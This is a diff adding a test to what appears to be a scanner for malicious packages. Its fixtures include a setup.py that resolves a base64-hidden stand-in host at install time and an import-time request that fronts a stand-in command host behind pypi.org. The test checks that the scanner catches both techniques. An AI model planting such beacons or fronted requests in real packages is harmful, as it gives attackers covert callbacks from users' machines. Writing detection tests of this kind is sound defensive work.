@@ -205,3 +205,18 @@ test('a helper that reads the file at the path it is given returns that file (cr
   });
   assert.notEqual(cfg.verdict, 'malicious', cfg.reason);
 });
+
+test('a DNS lookup of a hidden host at install and a domain-fronted request at import phone home', async () => {
+  const { out, score } = await scan({
+    'p-1/setup.py': "import socket, base64\nsocket.gethostbyname(base64.b64decode('Y2IuZXhhbXBsZS5pbnZhbGlk').decode())\nfrom setuptools import setup\nsetup(name='p')\n",
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/install-beacon' && f.message.includes('cb.example.invalid')));
+  const { out: fronted } = await scan({
+    'pkg/__init__.py': "from urllib import request\nrequest.urlopen(request.Request('https://pypi.org/x', headers={'Host': 'c2.cdn.example.invalid'}))\n",
+  });
+  assert.ok(fronted.findings.some((f) => f.ruleId === 'py/install-beacon' && /domain fronting/.test(f.message)));
+  // A resolver check of a plain, visible name at install is not a callback.
+  const { score: plain } = await scan({ 'p-1/setup.py': "import socket\nsocket.gethostbyname('files.example.org')\nfrom setuptools import setup\nsetup(name='p')\n" });
+  assert.notEqual(plain.verdict, 'malicious', plain.reason);
+});
